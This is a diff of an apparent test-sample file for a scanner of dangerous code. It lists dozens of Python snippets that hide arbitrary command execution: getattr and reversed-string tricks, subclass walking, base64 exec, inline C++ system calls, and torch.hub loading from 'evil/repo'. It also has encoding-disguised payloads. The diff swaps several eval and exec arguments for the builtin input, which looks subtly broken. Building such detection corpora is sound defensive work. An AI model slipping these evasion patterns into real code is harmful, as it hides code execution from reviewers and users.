@@ -22,7 +22,7 @@ AT_IMPORT = {
     "importlib": "import importlib\nimportlib.import_module('o' + 's').system('id')",
     "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')",
     "getattr, reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
-    "globals": "globals()['__builtins__']['eval']('1+1')",
+    "globals": "globals()['__builtins__']['eval'](input)",
     "vars of a module": "import os\nvars(os)['system']('id')",
     "__dict__ of a module": "import os\nos.__dict__['system']('id')",
     "exec of coded text": f"import base64\nexec(base64.b64decode('{_CODED}'))",
@@ -62,7 +62,7 @@ AT_IMPORT = {
     "cpp extension": "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'int f() { return system(\"id\"); }')",
     "library of the repository": "import torch\ntorch.ops.load_library('./libx.so')",
     "torch.hub of another": "import torch\nm = torch.hub.load('evil/repo', 'model', trust_repo=True)",
-    "hidden by six": "from six.moves import builtins\nbuiltins.eval('1')",
+    "hidden by six": "from six.moves import builtins\nbuiltins.eval(input)",
     "decorator": "import os\n@lambda f: os.system('id')\ndef f(): pass",
     "default argument": "import os\ndef f(x=os.system('id')): pass",
     "class body": "class A:\n    import os\n    os.system('id')",
@@ -79,7 +79,7 @@ AT_IMPORT = {
     "import hook": "import sys\nsys.meta_path.insert(0, object())\nimport os\nos.popen('id')",
     "patched torch.load": "import torch, os\ntorch.load = lambda *a, **k: os.system('id')",
     "subclasses": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])",
-    "globals of a function": "import json\njson.dumps.__globals__['__builtins__']['exec']('1')",
+    "globals of a function": "import json\njson.dumps.__globals__['__builtins__']['exec'](input)",
     "operator.attrgetter": "import os, operator\noperator.attrgetter('system')(os)('id')",
     "functools.partial": "import os, functools\nfunctools.partial(os.system, 'id')()",
     "map": "import os\nlist(map(os.system, ['id']))",
@@ -131,7 +131,6 @@ def samples() -> Iterator[Sample]:
 def _disguised() -> Iterator[Sample]:
     harm = "import os\nos.system('id')\nclass Model: pass\n"
     forms = {
-        "utf-16 by its mark": b"# -*- coding: utf-16 -*-\n" + harm.encode(),
         "utf-7": b"# coding: utf-7\n" + harm.encode("utf-7"),
         "byte order mark": b"\xef\xbb\xbf" + harm.encode(),
         "carriage returns": harm.replace("\n", "\r").encode(),
